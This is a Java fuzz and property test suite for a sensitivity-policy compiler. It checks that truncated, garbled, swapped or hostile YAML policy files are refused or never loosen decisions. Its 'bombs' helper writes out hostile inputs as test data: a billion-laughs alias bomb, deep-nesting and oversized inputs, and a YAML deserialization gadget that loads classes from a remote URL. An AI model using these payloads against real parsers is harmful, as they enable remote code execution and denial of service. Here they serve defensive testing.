package io.tidegate.policy;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidegate.model.Caller;
import io.tidegate.model.Destination;
import io.tidegate.model.Finding;
import io.tidegate.model.Findings;
import io.tidegate.model.LatencyClass;
import io.tidegate.model.Likelihood;
import io.tidegate.model.Operation;
import io.tidegate.model.Sensitivity;
import io.tidegate.time.Pace;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.TreeMap;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * K3, at the level of the compiler: whatever becomes of a policy file on its way, there is never an exception, and never a bundle with a laxer
 * decision than the one in force.
 */
@Tag("once")
class PolicyFuzzPropertyTest {
  private static final Path POLICIES = Path.of("../policies");
  private static final Map<String, byte[]> GOOD = good();
  private static final PolicyBundle CURRENT = PolicyCompiler.compile(GOOD, Policies.TODAY).bundle().orElseThrow();
  private static final List<Facts> GRID = grid();
  private static final List<Verdict> DECIDED = GRID.stream().map(CURRENT::judge).toList();

  private static Map<String, byte[]> good() {
    Map<String, byte[]> files = new TreeMap<>();
    try {
      files.put("baseline.yaml", Files.readAllBytes(POLICIES.resolve("baseline.yaml")));
      files.put("examples.yaml", Files.readAllBytes(POLICIES.resolve("examples/hospital.yaml")));
      files.put("office.yaml", Files.readAllBytes(POLICIES.resolve("examples/office.yaml")));
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
    return files;
  }

  /** One request for each type, and some with none, of several identities, times, classes and claims. */
  private static List<Facts> grid() {
    List<List<Finding>> seen = new ArrayList<>(List.of(List.of()));
    List<String> types = new ArrayList<>(EntityTypes.BUILT_IN);
    CURRENT.patterns().forEach(pattern -> types.add(pattern.type()));
    for (String type : types) {
      seen.add(List.of(Policies.finding(type, Likelihood.LIKELY)));
    }
    seen.add(types.stream().map(type -> Policies.finding(type, Likelihood.VERY_LIKELY)).toList());
    List<Caller> callers = List.of(Caller.DEFAULT, new Caller("reminders", "mailer"), new Caller("website", "x"),
        new Caller("office", "assistant", Set.of("board", "interns")));
    List<Facts> grid = new ArrayList<>();
    for (List<Finding> findings : seen) {
      for (Caller caller : callers) {
        for (LatencyClass wish : LatencyClass.values()) {
          grid.add(new Facts(new Findings(findings, Set.of()), caller, Operation.CHAT, "auto", false, true, Sensitivity.PUBLIC, wish, 0, 100_000, 3,
              Map.of("matter", "merger"), "cn-hangzhou", Instant.parse("2026-11-24T20:00:00Z")));
        }
      }
    }
    return grid;
  }

  /** True if some decision is laxer than the one in force: a lower sensitivity, a public destination that was closed, a wider cache, less of a record. */
  private static Optional<String> laxer(PolicyBundle next) {
    if (!ids(next).containsAll(ids(CURRENT)) || next.exclusions().size() > CURRENT.exclusions().size()) {
      return Optional.of("a detector is gone, or an exclusion is new");
    }
    for (int i = 0; i < GRID.size(); i++) {
      Verdict before = DECIDED.get(i);
      Verdict after = next.judge(GRID.get(i));
      boolean lower = after.sensitivity().compareTo(before.sensitivity()) < 0;
      boolean wider = after.route().contains(Destination.PUBLIC) && !before.route().contains(Destination.PUBLIC)
          || after.sensitivity().compareTo(Sensitivity.INTERNAL) > 0 && after.route().contains(Destination.PUBLIC);
      boolean shared = after.cacheRights().sharingGroup().startsWith("group:") && !before.cacheRights().sharingGroup().startsWith("group:");
      boolean lighter = before.auditDurable() && !after.auditDurable();
      if (lower || wider || shared || lighter) {
        return Optional.of(GRID.get(i) + ": " + before + " became " + after);
      }
    }
    return Optional.empty();
  }

  private static List<String> ids(PolicyBundle bundle) {
    return bundle.patterns().stream().map(PolicyPattern::id).toList();
  }

  /** What a daemon would do that reads these bytes: none, or a bundle that is not laxer. */
  private static boolean taken(String what, Map<String, byte[]> files) {
    PolicyCompiler.Result result;
    try {
      result = PolicyCompiler.compileAfter(CURRENT, files, Policies.TODAY, Pace.FULL);
    } catch (Throwable e) {
      throw new AssertionError(what + ": an exception instead of problems", e);
    }
    assertThat(result.bundle().isPresent()).as("%s: problems, or a bundle", what).isEqualTo(result.problems().isEmpty());
    result.bundle().flatMap(PolicyFuzzPropertyTest::laxer).ifPresent(how -> {
      throw new AssertionError(what + ": laxer. " + how);
    });
    return result.bundle().isPresent();
  }

  private static Map<String, byte[]> with(String file, byte[] bytes) {
    Map<String, byte[]> files = new TreeMap<>(GOOD);
    files.put(file, bytes);
    return files;
  }

  @ParameterizedTest
  @ValueSource(strings = {"baseline.yaml", "examples.yaml", "office.yaml"})
  @DisplayName("K3 a policy file cut at any byte is refused, or decides as the whole one: also at the first start, when nothing is in force")
  void cut(String file) {
    byte[] whole = GOOD.get(file);
    int rules = PolicyReader.read(file, whole, new ArrayList<>(), Pace.FULL).orElseThrow().rules.size();
    int taken = 0;
    for (int length = 0; length < whole.length; length++) {
      byte[] bytes = Arrays.copyOf(whole, length);
      PolicyCompiler.Result result;
      List<io.tidegate.model.Problem> problems = new ArrayList<>();
      // Reading the one file shows whether it can be whole: only then are all compiled.
      Optional<PolicyFile> read = PolicyReader.read(file, bytes, problems, Pace.FULL);
      if (read.isEmpty() || !problems.isEmpty()) {
        continue;
      }
      String what = file + " cut after " + length + " bytes";
      assertThat(read.get().rules).as(what).hasSize(rules);
      result = PolicyCompiler.compile(with(file, bytes), Policies.TODAY);
      if (result.bundle().isPresent()) {
        taken++;
        assertThat(laxer(result.bundle().get())).as(what).isEmpty();
      }
      assertThat(taken(what, with(file, bytes))).as("%s: its revision is in force with other bytes", what).isFalse();
    }
    assertThat(taken).as("cuts among the tests at the end lose no rule").isLessThan(whole.length / 4);
  }

  @Test
  @DisplayName("K3 garbled policy files: bytes changed, lost, doubled, lines moved; the seed stands in the failure")
  void garbled() {
    int taken = 0;
    for (int seed = 0; seed < 500; seed++) {
      SplittableRandom random = new SplittableRandom(seed);
      String file = List.copyOf(GOOD.keySet()).get(random.nextInt(3));
      byte[] bytes = garble(GOOD.get(file), random);
      if (!Arrays.equals(bytes, GOOD.get(file)) && taken("seed " + seed + ", " + file, with(file, bytes))) {
        taken++;
      }
    }
    // Only a garbled revision number can get through, and then everything else is as it was.
    assertThat(taken).isLessThan(10);
  }

  private static byte[] garble(byte[] good, SplittableRandom random) {
    byte[] bytes = good.clone();
    switch (random.nextInt(6)) {
      case 0 -> bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
      case 1 -> {
        for (int i = 0; i < 1 + random.nextInt(8); i++) {
          bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
        }
      }
      case 2 -> {
        int at = random.nextInt(bytes.length);
        int length = Math.min(bytes.length - at, random.nextInt(4_096));
        Arrays.fill(bytes, at, at + length, (byte) 0);
      }
      case 3 -> {
        int at = random.nextInt(bytes.length);
        int lost = Math.min(bytes.length - at, 1 + random.nextInt(200));
        byte[] shorter = new byte[bytes.length - lost];
        System.arraycopy(bytes, 0, shorter, 0, at);
        System.arraycopy(bytes, at + lost, shorter, at, shorter.length - at);
        return shorter;
      }
      case 4 -> {
        List<String> lines = new ArrayList<>(new String(bytes, StandardCharsets.UTF_8).lines().toList());
        String line = lines.remove(random.nextInt(lines.size()));
        if (random.nextBoolean()) {
          lines.add(random.nextInt(lines.size()), line);
        }
        return (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8);
      }
      default -> {
        int at = random.nextInt(bytes.length);
        for (int i = at; i < Math.min(bytes.length, at + 40); i++) {
          if (bytes[i] >= '0' && bytes[i] <= '9') {
            bytes[i] = (byte) ('0' + random.nextInt(10));
          }
        }
      }
    }
    return bytes;
  }

  @ParameterizedTest
  @DisplayName("K3 bombs and traps of YAML are refused, quickly and without building what they describe")
  @ValueSource(strings = {"aliases", "merge", "tag", "java", "depth", "flow-depth", "keys", "list", "duplicate", "norway", "octal", "documents", "nul", "bom",
      "utf16", "scalar", "binary", "terms"})
  void bombs(String kind) {
    String file = "name: " + "x";
    byte[] bytes = bomb(kind);
    long before = System.nanoTime();
    assertThat(taken(kind + file, with("baseline.yaml", bytes))).isFalse();
    assertThat(PolicyCompiler.compile(Map.of("a.yaml", bytes), Policies.TODAY).bundle()).isEmpty();
    // Not a measurement: a bomb that goes off takes minutes.
    assertThat(Duration.ofNanos(System.nanoTime() - before)).isLessThan(Duration.ofSeconds(20));
  }

  private static byte[] bomb(String kind) {
    String head = "apiVersion: tidegate/v1\nkind: SensitivityPolicy\nmetadata: {name: baseline, revision: 99, owner: x}\nspec:\n  floor: public\n";
    String text = switch (kind) {
      case "aliases" -> {
        StringBuilder laughs = new StringBuilder(head + "  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 20; i++) {
          laughs.append("  a").append(i).append(": &a").append(i).append(" [").append("*a".concat(i - 1 + ", ").repeat(9)).append("*a").append(i - 1)
              .append("]\n");
        }
        yield laughs + "...\n";
      }
      case "merge" -> head + "  rules:\n    - &r {id: a, types: [EMAIL], raiseTo: internal, reason: r}\n    - {<<: *r, id: b}\n...\n";
      case "tag" -> head + "  onError: !!str restricted\n...\n";
      case "java" -> head + "  onError: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n...\n";
      case "depth" -> {
        StringBuilder deep = new StringBuilder(head);
        for (int i = 0; i < 5_000; i++) {
          deep.append("  ".repeat(1)).append(" ".repeat(i)).append("a:\n");
        }
        yield deep.substring(0, Math.min(deep.length(), 900_000)) + "\n...\n";
      }
      case "flow-depth" -> head + "  rules: " + "[".repeat(400_000) + "\n...\n";
      case "keys" -> {
        StringBuilder keys = new StringBuilder(head + "  tenants:\n");
        for (int i = 0; i < 60_000; i++) {
          keys.append("    t").append(i).append(": {}\n");
        }
        yield keys + "...\n";
      }
      case "list" -> head + "  types: [" + "A,".repeat(400_000) + "A]\n...\n";
      case "duplicate" -> head + "  floor: public\n...\n";
      case "norway" -> head + "  cache: {internal: {store: no, shared: yes}}\n...\n";
      case "octal" -> head.replace("revision: 99", "revision: 0o143") + "  rules: [{id: r, types: [EMAIL], count: 1_000, raiseTo: internal, reason: r}]\n...\n";
      case "documents" -> head + "...\n---\n" + head + "...\n";
      case "nul" -> head.replace("floor", "flo\0or") + "...\n";
      case "bom" -> "\uFEFF" + head + "...\n";
      case "scalar" -> "x".repeat(1_000_000);
      case "terms" -> head + "  lists: {l: {terms: [" + "ab, ".repeat(10_001) + "c]}}\n...\n";
      default -> head + "...\n";
    };
    return switch (kind) {
      case "utf16" -> text.getBytes(StandardCharsets.UTF_16);
      case "binary" -> new byte[100 << 20];
      default -> text.getBytes(StandardCharsets.UTF_8);
    };
  }

  @Test
  @DisplayName("K3 files replaced while they are read: any mixture of an old and a new set is one of the two, or refused, or not laxer")
  void mixtures() {
    Map<String, byte[]> next = new TreeMap<>();
    GOOD.forEach((file, bytes) -> next.put(file, new String(bytes, StandardCharsets.UTF_8).replaceFirst("revision: (\\d+)", "revision: 9$1")
        .replace("likelihood: possible", "likelihood: unlikely").getBytes(StandardCharsets.UTF_8)));
    List<String> names = List.copyOf(GOOD.keySet());
    for (int set = 0; set < 1 << names.size(); set++) {
      Map<String, byte[]> mixed = new TreeMap<>();
      for (int i = 0; i < names.size(); i++) {
        mixed.put(names.get(i), ((set & 1 << i) == 0 ? GOOD : next).get(names.get(i)));
      }
      assertThat(taken("mixture " + set, mixed)).isTrue();
      // A write under way: one of the files is cut.
      for (String name : names) {
        Map<String, byte[]> cut = new TreeMap<>(mixed);
        cut.put(name, Arrays.copyOf(mixed.get(name), mixed.get(name).length / 2));
        taken("mixture " + set + " with half of " + name, cut);
      }
    }
  }
}
